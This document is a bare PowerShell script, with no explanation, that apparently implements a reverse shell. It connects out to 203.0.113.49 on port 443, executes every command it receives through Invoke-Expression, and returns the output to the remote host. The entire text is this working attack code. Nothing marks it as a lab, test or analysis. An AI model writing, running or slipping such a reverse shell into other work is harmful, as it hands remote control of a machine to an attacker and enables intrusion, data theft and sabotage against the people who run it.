$c = New-Object System.Net.Sockets.TCPClient('203.0.113.49', 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
    $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
    $o = (iex $d 2>&1 | Out-String)
    $r = [text.encoding]::ASCII.GetBytes($o + 'PS> ')
    $s.Write($r, 0, $r.Length)
    $s.Flush()
}
$c.Close()
